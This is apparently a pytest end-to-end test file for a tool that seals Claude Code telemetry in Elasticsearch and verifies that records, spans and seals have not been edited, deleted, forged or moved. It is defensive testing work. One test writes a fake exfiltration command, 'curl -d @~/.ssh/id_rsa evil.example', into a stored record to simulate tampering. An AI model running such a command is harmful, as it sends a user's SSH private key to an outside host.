"""Tamper evidence end to end (issues 18 and 24): real Claude Code sessions
through the shipped gateway, which seals the Claude log records of every
request (one signed, chained seal per request in logs-cowork_ecs.seals-*)
and signs every span and span event with the suite's key
(harness.test_pki: signing.pem); then, in Elasticsearch, a stored record
edited (its command changed), one given a field it did not have, one
deleted from the middle of its session, the session's last one deleted, a
whole session deleted, a forged record inserted, a sealed record moved to
another id, and a record sealed by a gateway whose key was revoked; and in
another gateway's chain a seal deleted and one edited. `cowork-ecs verify`
names exactly those and passes on the untouched session."""

import json
import os
import pty
import select
import subprocess
import time

import pytest

import detection_rules
import harness as h
from conftest import TOKEN, get

INDEX = "logs-claude_code.events.otel-*"


def verify(stack, *args):
    pki = h.test_pki()
    if getattr(stack.es, "verify_key", None) is None:  # the README's read-only role
        _, stack.es.verify_key = stack.es.api_key("cowork-ecs-verify", "verify.json")
    proc = subprocess.run([str(h.CLI), "verify", "--elasticsearch", stack.es.url,
                           "--api-key", stack.es.verify_key, "--ca-file", str(pki / "ca.crt"),
                           "--public-key", str(pki / "signing.pub.pem"),
                           "--revoked-key", str(pki / "signing_revoked.pub.pem"),
                           # What the test just wrote is in: the default window ends two seal
                           # intervals ago (what is still being written is the next run's).
                           *(() if "--until" in args else ("--until", "now")), *args],
                          capture_output=True, timeout=120, env={"PATH": "/usr/bin:/bin"})
    return proc.returncode, proc.stdout.decode(), proc.stderr.decode()


def stored(stack, sid):
    """The session's documents as stored: (index, _id, _source), by event.sequence."""
    hits = stack.es.search({"term": {"claude_code.events.session.id": sid}}, INDEX)
    return sorted(((x["_index"], x["_id"], x["_source"]) for x in hits),
                  key=lambda d: get(d[2], "claude_code.events.event.sequence"))


def put(doc, dotted, value):
    """Sets an existing field of a stored document by its dotted path
    (objects or dotted keys, as `get` reads them)."""
    parts = dotted.split(".")
    cur, i = doc, 0
    while True:
        for j in range(len(parts), i, -1):
            key = ".".join(parts[i:j])
            if key in cur:
                if j == len(parts):
                    cur[key] = value
                    return
                cur, i = cur[key], j
                break
        else:
            raise KeyError(dotted)


def chain_of(src):
    """The chain of a sealed record: its seal's _id is `<chain>-<number>`."""
    return get(src, "cowork_ecs.seal.id").rsplit("-", 1)[0]


@pytest.fixture(scope="module")
def sessions(stack):
    """Four real sessions (untouched, tampered, one joined by a record a
    revoked key sealed, and one deleted whole), each fully indexed."""
    out = {}
    for name in ("untouched", "tampered", "revoked", "gone"):
        sid, proc = h.run_claude("bash_ok", stack.api.url, stack.collector.otlp_http, TOKEN, allowed_tools=["Bash"],
                                 tag=f"sig_{name}")
        assert proc.returncode == 0, proc.stderr[-2000:]
        stack.docs(f"sig_{name}", 5, actions=("user_prompt", "api_request", "tool_result"), index=INDEX)
        time.sleep(2)  # the session's last records
        out[name] = sid
    return out


def test_every_stored_claude_record_is_sealed_after_the_content_policy(stack, sessions):
    docs = stored(stack, sessions["untouched"])
    assert len(docs) >= 5
    chains = {chain_of(src) for _, _, src in docs}
    assert len(chains) == 1 and len(next(iter(chains))) == 16, chains
    for _, _, src in docs:
        assert get(src, "cowork_ecs.signature.value") is None, "no signature per record"
    # The seals that list them: signed, chained, in their own data stream.
    seals = stack.es.search({"term": {"cowork_ecs.seal.sessions": sessions["untouched"]}}, "logs-cowork_ecs.seals-*")
    listed = {e.split(" ")[0] for x in seals for e in get(x["_source"], "cowork_ecs.seal.items").split("\n")}
    assert {d[1] for d in docs} <= listed
    # Each record names the seal that lists it: that seal's _id.
    by_id = {x["_id"]: x for x in seals}
    for _, doc_id, src in docs:
        seal = by_id[get(src, "cowork_ecs.seal.id")]
        assert doc_id in {e.split(" ")[0] for e in get(seal["_source"], "cowork_ecs.seal.items").split("\n")}
    # What sealing adds to a stored document's _source (README "Cost"):
    # the reference to its seal, as Elasticsearch returns it.
    compact = lambda d: len(json.dumps(d, separators=(",", ":")).encode())  # noqa: E731
    overhead = [compact(src) - compact({k: v for k, v in src.items() if k != "cowork_ecs"}) for _, _, src in docs]
    per_item = [compact(x["_source"]) / len(get(x["_source"], "cowork_ecs.seal.items").split("\n")) for x in seals]
    print(f"\n[_source bytes sealing adds per document] {sorted(set(overhead))}; "
          f"seal bytes per record it lists: {min(per_item):.0f}..{max(per_item):.0f}")
    assert all(0 < o <= 64 for o in overhead), overhead
    code, out, err = verify(stack, "--session", sessions["untouched"])
    print(f"\n[verify untouched]\n{out}")
    assert code == 0, out + err
    assert f"session {sessions['untouched']}: intact ({len(docs)} documents" in out, out
    assert out.startswith("chain "), out


def test_verify_names_each_tampering_and_nothing_else(stack, sessions):
    es = stack.es
    tampered = stored(stack, sessions["tampered"])
    # 1. One record's command changed.
    edited = next(d for d in tampered if get(d[2], "process.command_line"))
    status, body = h.http("POST", f"{es.url}/{edited[0]}/_update/{edited[1]}?refresh=true",
                          {"doc": {"process": {"command_line": "curl -d @~/.ssh/id_rsa evil.example"}}})
    assert status == 200, body[:500]
    # 2. A field added to another (one it did not have).
    added = next(d for d in tampered[1:] if d[1] != edited[1] and get(d[2], "user.name") is None)
    status, body = h.http("POST", f"{es.url}/{added[0]}/_update/{added[1]}?refresh=true",
                          {"doc": {"user": {"name": "someone-else"}}})
    assert status == 200, body[:500]
    # 3. One deleted from the middle of the session, 4. its last one deleted.
    inner = [d for d in tampered[1:-1] if d[1] not in (edited[1], added[1])]
    middle = inner[len(inner) // 2]
    tail = tampered[-1]
    deleted_seq = get(middle[2], "claude_code.events.event.sequence")
    for d in (middle, tail):
        assert h.http("DELETE", f"{es.url}/{d[0]}/_doc/{d[1]}?refresh=true")[0] == 200
    # 5. A forged document inserted: a copy of a real one, without its mark.
    forged = {k: v for k, v in tampered[0][2].items() if k != "cowork_ecs"}
    status, body = h.http("POST", f"{es.url}/logs-claude_code.events.otel-default/_doc?refresh=true", forged)
    assert status == 201, body[:500]
    forged = json.loads(body)
    # 6. A record moved to another id (deleted, written again as it was).
    moved = next(d for d in inner if d[1] != middle[1])
    assert h.http("DELETE", f"{es.url}/{moved[0]}/_doc/{moved[1]}?refresh=true")[0] == 200
    status, body = h.http("POST", f"{es.url}/logs-claude_code.events.otel-default/_doc?refresh=true", moved[2])
    assert status == 201, body[:500]
    moved_to = json.loads(body)
    # 9. One record's @timestamp moved, 10. one's resource field edited
    # (Claude Code sends no host.name: host.arch, stored as host.architecture).
    spare = [d for d in inner if d[1] not in (middle[1], moved[1])]
    retimed, rehosted = spare[0], spare[1]
    status, body = h.http("POST", f"{es.url}/{retimed[0]}/_update/{retimed[1]}?refresh=true",
                          {"doc": {"@timestamp": "2020-01-01T00:00:00.000Z"}})
    assert status == 200, body[:500]
    assert get(rehosted[2], "host.architecture"), rehosted[2]
    status, body = h.http("POST", f"{es.url}/{rehosted[0]}/_update/{rehosted[1]}?refresh=true",
                          {"doc": {"host": {"architecture": "sparc"}}})
    assert status == 200, body[:500]
    # 11. A sealed record of another session copied into this one.
    donor = stored(stack, sessions["revoked"])[0][2]
    copy = json.loads(json.dumps(donor))
    put(copy, "claude_code.events.session.id", sessions["tampered"])
    status, body = h.http("POST", f"{es.url}/logs-claude_code.events.otel-default/_doc?refresh=true", copy)
    assert status == 201, body[:500]
    copied = json.loads(body)
    # 7. A whole session deleted.
    gone = stored(stack, sessions["gone"])
    for d in gone:
        assert h.http("DELETE", f"{es.url}/{d[0]}/_doc/{d[1]}?refresh=true")[0] == 200

    code, out, err = verify(stack, "--session", sessions["tampered"])
    print(f"\n[verify tampered]\n{out}")
    assert code == 1, out + err
    lines = out.splitlines()
    session_line = next(i for i, l in enumerate(lines) if l.startswith(f"session {sessions['tampered']}:"))
    problems = sorted(l for l in lines[session_line + 1:] if l.startswith("  "))
    assert any(l.startswith(f"  modified: {edited[0]}/{edited[1]} (differs from seal ") for l in problems), out
    assert any(l.startswith(f"  modified: {added[0]}/{added[1]} (differs from seal ") for l in problems), out
    assert f"  deleted: {middle[1]}" in problems, out
    assert f"  deleted: {tail[1]}" in problems, out
    assert f"  moved: {moved[1]} to {moved_to['_index']}/{moved_to['_id']}" in problems, out
    assert f"  inserted: {forged['_index']}/{forged['_id']} (unsigned)" in problems, out
    assert any(l.startswith(f"  missing: sequence ") and str(deleted_seq) in l for l in problems), out
    assert any(l.startswith(f"  modified: {retimed[0]}/{retimed[1]} (differs from seal ") for l in problems), out
    assert any(l.startswith(f"  modified: {rehosted[0]}/{rehosted[1]} (differs from seal ") for l in problems), out
    assert f"  inserted: {copied['_index']}/{copied['_id']} (in no seal)" in problems, out
    # The same findings as documents, which the tamper-finding rule fires on.
    code, out, err = verify(stack, "--session", sessions["tampered"], "--report-index", "logs-cowork_ecs.verify-default")
    assert code == 1 and f"{len(problems)} finding(s) written" in out, out + err
    rule = next(r for stem, r in detection_rules.rules() if stem == "cowork_ecs_tamper_finding")
    fired = detection_rules.matches(es, rule, {"term": {"session.id": sessions["tampered"]}})
    assert sorted(get(d, "cowork_ecs.verify.finding") for d in fired) == \
        sorted(["modified", "modified", "deleted", "deleted", "moved", "inserted", "deleted",
                "modified", "modified", "inserted"]), fired
    assert {get(d, "cowork_ecs.verify.document_id") for d in fired} >= {edited[1], middle[1], tail[1], moved[1]}

    code, out, err = verify(stack, "--session", sessions["gone"])
    print(f"[verify gone]\n{out}")
    assert code == 1, out + err
    assert f"session {sessions['gone']}: {len(gone)} problem(s)" in out, out
    assert sorted(l for l in out.splitlines() if l.startswith("  deleted: ")) == \
        sorted(f"  deleted: {d[1]}" for d in gone), out

    # 8. A record sealed by a gateway whose key was revoked, in another session.
    pki = h.test_pki()
    old = h.Collector(stack.workdir, es.url, TOKEN, name="collector-revoked-signer",
                      env={"COWORK_ECS_SIGNING_KEY_FILE": str(pki / "signing_revoked.pem")}).start()
    try:
        last = stored(stack, sessions["revoked"])[-1][2]
        seq = get(last, "claude_code.events.event.sequence") + 1
        assert old.post_logs(json.dumps(record(sessions["revoked"], seq, "sig_revoked_signer")).encode(),
                             "application/json")[0] == 200
        stack.docs("sig_revoked_signer", 1, index=INDEX)
    finally:
        old.stop()
    h.wait_until("the revoked gateway's seals", lambda: len({
        get(x["_source"], "cowork_ecs.seal.chain")
        for x in es.search({"term": {"cowork_ecs.seal.sessions": sessions["revoked"]}}, "logs-cowork_ecs.seals-*")}) == 2,
        60)
    code, out, err = verify(stack, "--session", sessions["revoked"])
    print(f"[verify revoked]\n{out}")
    assert code == 1, out + err
    assert "revoked key: seal " in out, out

    code, out, err = verify(stack, "--session", sessions["untouched"])
    print(f"[verify untouched]\n{out}")
    assert code == 0 and "intact" in out, out + err


def record(sid, seq, tag):
    """One Claude Code tool_result record of session `sid`, number `seq`."""
    return {"resourceLogs": [{"resource": {"attributes": [
        {"key": "service.name", "value": {"stringValue": "claude-code"}},
        {"key": "e2e.scenario", "value": {"stringValue": tag}}]},
        "scopeLogs": [{"scope": {"name": "com.anthropic.claude_code.events"}, "logRecords": [{
            "timeUnixNano": str(time.time_ns()), "body": {"stringValue": "claude_code.tool_result"},
            "attributes": [{"key": "event.name", "value": {"stringValue": "tool_result"}},
                           {"key": "session.id", "value": {"stringValue": sid}},
                           {"key": "event.sequence", "value": {"intValue": seq}},
                           {"key": "tool_name", "value": {"stringValue": "Bash"}},
                           {"key": "success", "value": {"stringValue": "true"}}]}]}]}]}


def stop_and_deliver_the_closing_seal(stack, c, chain):
    """A graceful stop: the closing seal is queued like any record; one the
    exporter had no time to send before the stop is sent by the next start
    on the same queue (then stopped again)."""
    c.stop()

    def closed():
        return any(get(x["_source"], "cowork_ecs.seal.kind") == "closing"
                   for x in stack.es.search({"term": {"cowork_ecs.seal.chain": chain}}, "logs-cowork_ecs.seals-*"))
    try:
        h.wait_until("the closing seal", closed, 15)
    except TimeoutError:
        c.start(keep_queue=True)
        try:
            h.wait_until("the closing seal, sent by the next start", closed, 60)
        finally:
            c.stop()


def test_a_deleted_or_edited_seal_breaks_its_chain(stack):
    """A gateway of its own (its own chain): two requests, then a graceful
    stop (its closing seal). Its first seal deleted, its second one edited:
    verify names both, and the records they listed are in no seal."""
    es = stack.es
    sid = "sig-seal-tamper-session"
    c = h.Collector(stack.workdir, es.url, TOKEN, name="collector-seal-tamper").start()
    try:
        for seq in (1, 2):
            assert c.post_logs(json.dumps(record(sid, seq, "sig_seal_tamper")).encode(), "application/json")[0] == 200
        stack.docs("sig_seal_tamper", 2, index=INDEX)
        docs = stored(stack, sid)
        chain = chain_of(docs[0][2])
    finally:
        stop_and_deliver_the_closing_seal(stack, c, chain)
    code, out, err = verify(stack, "--session", sid)
    print(f"\n[verify seal chain before]\n{out}")
    assert code == 0 and f"chain {chain}: intact" in out and "closed" in out, out + err
    seals = sorted((x for x in es.search({"term": {"cowork_ecs.seal.chain": chain}}, "logs-cowork_ecs.seals-*")
                    if get(x["_source"], "cowork_ecs.seal.kind") == "batch"),
                   key=lambda x: get(x["_source"], "cowork_ecs.seal.number"))
    assert [get(x["_source"], "cowork_ecs.seal.number") for x in seals] == [0, 1], "one seal per request"
    first, last = seals
    assert h.http("DELETE", f"{es.url}/{first['_index']}/_doc/{first['_id']}?refresh=true")[0] == 200
    status, body = h.http("POST", f"{es.url}/{last['_index']}/_update/{last['_id']}?refresh=true",
                          {"doc": {"cowork_ecs": {"seal": {"end": 0}}}})
    assert status == 200, body[:500]
    code, out, err = verify(stack, "--session", sid)
    print(f"[verify seal chain after]\n{out}")
    assert code == 1, out + err
    assert f"chain {chain}: seal_invalid (edited or forged): {last['_index']}/{last['_id']}" in out, out
    assert "seal_missing: seals 0..1 of the chain" in out, out  # 1 is not a seal any more
    assert "(in no seal)" in out, out


def test_a_whole_request_deleted_is_named_record_by_record(stack):
    """The records of one request (one seal) deleted together: each is
    named, the seal that listed them still stands, the chain is intact."""
    es = stack.es
    sid = "sig-request-deleted-session"
    c = h.Collector(stack.workdir, es.url, TOKEN, name="collector-request-deleted").start()
    try:
        for first, count in ((1, 3), (4, 2)):
            body = record(sid, first, "sig_request_deleted")
            rec = body["resourceLogs"][0]["scopeLogs"][0]["logRecords"]
            for seq in range(first + 1, first + count):
                extra = json.loads(json.dumps(rec[0]))
                extra["attributes"][2]["value"]["intValue"] = seq
                rec.append(extra)
            assert c.post_logs(json.dumps(body).encode(), "application/json")[0] == 200
        stack.docs("sig_request_deleted", 5, index=INDEX)
        docs = stored(stack, sid)
        chain = chain_of(docs[0][2])
    finally:
        stop_and_deliver_the_closing_seal(stack, c, chain)
    first_request = [d for d in docs if get(d[2], "cowork_ecs.seal.id") == get(docs[0][2], "cowork_ecs.seal.id")]
    assert len(first_request) == 3, [get(d[2], "cowork_ecs.seal.id") for d in docs]
    for d in first_request:
        assert h.http("DELETE", f"{es.url}/{d[0]}/_doc/{d[1]}?refresh=true")[0] == 200
    code, out, err = verify(stack, "--session", sid)
    print(f"\n[verify a request deleted]\n{out}")
    assert code == 1, out + err
    assert f"chain {chain}: intact" in out, out
    assert sorted(l for l in out.splitlines() if l.startswith("  deleted: ")) == \
        sorted(f"  deleted: {d[1]}" for d in first_request), out


def test_a_gateway_key_without_the_seal_privilege_writes_records_verify_calls_unsealed(stack):
    """README "Tamper evidence": Elasticsearch refuses a seal per document
    (403) when the gateway's key may not write the seal data stream; the
    exporter drops that document (a per-document 403 is not retried, so a
    stray record cannot hold the queue) and writes the records. verify
    names them as in no seal."""
    es = stack.es
    roles = json.loads((h.ROLES / "gateway.json").read_text())
    for role in roles.values():
        for entry in role["indices"]:
            entry["names"] = [n for n in entry["names"] if "cowork_ecs.seals" not in n]
    status, body = h.http("POST", f"{es.url}/_security/api_key",
                          {"name": "gateway-without-seals", "role_descriptors": roles})
    assert status == 200, body[:500]
    sid = "sig-no-seal-privilege-session"
    c = h.Collector(stack.workdir, es.url, TOKEN, name="collector-no-seal-privilege",
                    env={"ELASTICSEARCH_API_KEY": json.loads(body)["encoded"]}).start()
    try:
        assert c.post_logs(json.dumps(record(sid, 1, "sig_no_seal_privilege")).encode(), "application/json")[0] == 200
        stack.docs("sig_no_seal_privilege", 1, index=INDEX)
        h.wait_until("the exporter's log of the refused seal",
                     lambda: "cowork_ecs.seals" in c.log.read_text(errors="replace"), 60)
    finally:
        c.stop()
    log = c.log.read_text(errors="replace")
    refused = [line for line in log.splitlines() if "cowork_ecs.seals" in line]
    print("\n[the exporter on the refused seal]\n" + refused[0][:600])
    assert "403" in refused[0] or "security_exception" in refused[0], refused[0]
    assert es.search({"term": {"cowork_ecs.seal.sessions": sid}}, "logs-cowork_ecs.seals-*") == []
    code, out, err = verify(stack, "--session", sid)
    print(f"[verify]\n{out}")
    assert code == 1, out + err
    assert "(in no seal)" in out, out


def test_verify_leaves_the_last_two_seal_intervals_to_the_next_run_and_shows_progress_on_a_terminal(stack):
    """README "Verifying": the default window ends `now-20s`, so a record
    written a moment ago is the next run's; on a terminal, verify shows its
    progress on stderr, in a pipe it does not."""
    sid = "sig-fresh-session"
    verify(stack, "--session", "no-such-session")  # makes the read-only key
    # Stamped a minute ahead, so that however slow this machine, the record
    # is younger than the default window's end when verify runs.
    body = record(sid, 1, "sig_fresh")
    body["resourceLogs"][0]["scopeLogs"][0]["logRecords"][0]["timeUnixNano"] = str(time.time_ns() + 60 * 10**9)
    assert stack.collector.post_logs(json.dumps(body).encode(), "application/json")[0] == 200
    stack.docs("sig_fresh", 1, index=INDEX)
    h.wait_until("its seal searchable", lambda: stack.es.search(
        {"term": {"cowork_ecs.seal.sessions": sid}}, "logs-cowork_ecs.seals-*"), 60)
    pki = h.test_pki()
    cmd = [str(h.CLI), "verify", "--elasticsearch", stack.es.url, "--api-key", stack.es.verify_key,
           "--ca-file", str(pki / "ca.crt"), "--public-key", str(pki / "signing.pub.pem"), "--session", sid]
    terminal, tty = pty.openpty()
    try:
        proc = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=tty, timeout=120)
        os.close(tty)
        shown = b""
        while select.select([terminal], [], [], 1)[0]:
            try:
                chunk = os.read(terminal, 4096)
            except OSError:  # the terminal's other end is closed
                break
            if not chunk:
                break
            shown += chunk
    finally:
        os.close(terminal)
    out = proc.stdout.decode()
    assert proc.returncode == 1 and "nothing verified" in out, out
    assert b"verify: " in shown and b" documents read" in shown, shown
    code, out, err = verify(stack, "--session", sid, "--until", "now+5m")
    assert code == 0 and f"session {sid}: intact (1 documents" in out, out + err
    assert "verify: " not in err, err


def test_verify_fails_when_nothing_matches(stack):
    code, out, err = verify(stack, "--session", "no-such-session")
    assert code == 1 and "nothing verified" in out, out + err


def test_verify_without_a_trusted_key_for_the_documents_says_unknown_key(stack, sessions):
    pki = h.test_pki()
    verify(stack, "--session", sessions["untouched"])  # makes the read-only key
    proc = subprocess.run([str(h.CLI), "verify", "--elasticsearch", stack.es.url, "--api-key", stack.es.verify_key,
                           "--ca-file", str(pki / "ca.crt"), "--public-key", str(pki / "signing_revoked.pub.pem"),
                           "--until", "now", "--session", sessions["untouched"]], capture_output=True, timeout=120)
    out = proc.stdout.decode()
    assert proc.returncode == 1 and "unknown key" in out, out + proc.stderr.decode()
    assert "seal_invalid" not in out, out


def test_spans_span_events_and_data_points_are_signed_and_a_changed_one_is_named(stack):
    tag = "sig_spans"
    extra = dict(h.ALL_SIGNALS_ENV)
    extra["OTEL_RESOURCE_ATTRIBUTES"] = f"e2e.scenario={tag}"
    sid, proc = h.run_claude("bash_ok", stack.api.url, stack.collector.otlp_http, TOKEN, allowed_tools=["Bash"],
                             tag=tag, extra_env=extra)
    assert proc.returncode == 0, proc.stderr[-2000:]
    spans = stack.docs(tag, 3, index="traces-claude_code.otel-*")
    events = stack.docs(tag, 1, index="logs-claude_code.otel-*")
    points = stack.docs(tag, 2, index="metrics-claude_code.metrics-*")
    time.sleep(3)
    for doc in spans + events:
        assert get(doc, "attributes.cowork_ecs.signature.key_id"), doc
    for doc in points:
        assert get(doc, "cowork_ecs.signature.key_id"), doc
    # Every span, span event and data point of the last minutes verifies:
    # the signed form is the exporter's document (OTel mode; ECS mode for
    # data points, one document each).
    for index in ("traces-claude_code.otel-*", "logs-claude_code.otel-*", "metrics-claude_code.metrics-*"):
        code, out, err = verify(stack, "--index", index, "--since", "now-10m")
        assert code == 0, out + err
    # One data point's value changed: time-series mode updates nothing in
    # place, so the forger deletes it and writes it again, cheaper.
    hits = stack.es.search({"term": {"e2e.scenario": tag}}, "metrics-claude_code.metrics-*")
    point = next(x for x in hits if get(x["_source"], "claude_code.cost.usage") is not None)
    assert h.http("DELETE", f"{stack.es.url}/{point['_index']}/_doc/{point['_id']}?refresh=true")[0] == 200
    forged = json.loads(json.dumps(point["_source"]))
    forged["claude_code"]["cost"]["usage"] = 0.0
    status, body = h.http("POST", f"{stack.es.url}/metrics-claude_code.metrics-default/_doc?refresh=true", forged)
    assert status == 201, body[:500]
    point = json.loads(body)
    code, out, err = verify(stack, "--index", "metrics-claude_code.metrics-*", "--session", sid)
    print(f"\n[verify data points]\n{out}")
    assert code == 1, out + err
    assert f"  modified: {point['_index']}/{point['_id']} (fields: claude_code.cost.usage)" in out.splitlines(), out
    # One span changed.
    hits = stack.es.search({"term": {"resource.attributes.e2e.scenario": tag}}, "traces-claude_code.otel-*")
    span = next(x for x in hits if get(x["_source"], "attributes.session.id") == sid)
    status, body = h.http("POST", f"{stack.es.url}/{span['_index']}/_update/{span['_id']}?refresh=true",
                          {"doc": {"name": "claude_code.nothing_to_see"}})
    assert status == 200, body[:500]
    code, out, err = verify(stack, "--index", "traces-claude_code.otel-*", "--session", sid)
    print(f"\n[verify spans]\n{out}")
    assert code == 1, out + err
    assert f"  modified: {span['_index']}/{span['_id']} (fields: name)" in out.splitlines(), out


def test_a_crash_is_named_as_a_crash_and_its_records_stay_intact(stack):
    """kill -9 of a gateway mid-stream, restarted on its queue: its chain
    ends without a closing seal, the next start's chain names its last seal,
    verify names the crash (not tampering) and the session reads intact;
    a chain whose gateway never comes back is reported silent, and so is
    its tail when its last seals are deleted."""
    es = stack.es
    sid = "sig-crash-session"
    c = h.Collector(stack.workdir, es.url, TOKEN, name="collector-crash",
                    env={"COWORK_ECS_SEAL_INTERVAL": "2s"})
    c.start()
    for seq in (1, 2):
        assert c.post_logs(json.dumps(record(sid, seq, "sig_crash")).encode(), "application/json")[0] == 200
    stack.docs("sig_crash", 2, index=INDEX)
    time.sleep(3)  # a heartbeat
    c.kill()
    first_chain = chain_of(stored(stack, sid)[0][2])
    c.start(keep_queue=True)
    try:
        for seq in (3, 4):
            assert c.post_logs(json.dumps(record(sid, seq, "sig_crash")).encode(), "application/json")[0] == 200
        stack.docs("sig_crash", 4, index=INDEX)
        second_chain = chain_of(stored(stack, sid)[-1][2])
    finally:
        stop_and_deliver_the_closing_seal(stack, c, second_chain)
    assert second_chain != first_chain
    code, out, err = verify(stack, "--session", sid)
    print(f"\n[verify crash]\n{out}")
    assert code == 0, out + err
    assert f"chain {first_chain}: intact" in out and f"crash: ended without its closing seal" in out, out
    assert f"(continued by chain {second_chain})" in out, out
    assert f"session {sid}: intact (4 documents, sequence 1..4)" in out, out

    # The tail of the first chain deleted (its last seals): the next chain
    # names a seal that is gone.
    seals = sorted(es.search({"term": {"cowork_ecs.seal.chain": first_chain}}, "logs-cowork_ecs.seals-*"),
                   key=lambda x: get(x["_source"], "cowork_ecs.seal.number"))
    last = seals[-1]
    assert h.http("DELETE", f"{es.url}/{last['_index']}/_doc/{last['_id']}?refresh=true")[0] == 200
    code, out, err = verify(stack, "--session", sid)
    print(f"[verify crash, tail deleted]\n{out}")
    assert code == 1, out + err
    assert f"at the chain's end (chain {second_chain} names seal {get(last['_source'], 'cowork_ecs.seal.number')})" \
        in out, out


def test_a_gateway_that_never_comes_back_leaves_a_silent_chain(stack):
    es = stack.es
    sid = "sig-silent-session"
    c = h.Collector(stack.workdir, es.url, TOKEN, name="collector-silent",
                    env={"COWORK_ECS_SEAL_INTERVAL": "1s"}).start()
    assert c.post_logs(json.dumps(record(sid, 1, "sig_silent")).encode(), "application/json")[0] == 200
    stack.docs("sig_silent", 1, index=INDEX)
    time.sleep(2)
    c.kill()
    time.sleep(3)  # more than two intervals without a seal
    code, out, err = verify(stack, "--session", sid)
    print(f"\n[verify silent]\n{out}")
    assert code == 1, out + err
    assert "chain_silent: no seal since " in out and "and no closing seal" in out, out


def test_make_runs_verdict_line_names_what_verify_found(stack, sessions):
    """`make run` prints verify's one-line verdict (tests/e2e/demo.py): on
    this cluster, where the tests above tampered, it is not intact."""
    import demo
    verdict = demo.verify_verdict(stack.es)
    print(f"\n[make run verdict] {verdict}")
    assert verdict.startswith("Tamper evidence (cowork-ecs verify): NOT intact: "), verdict
    assert "first problem: " in verdict and "chain(s) of seals" in verdict, verdict
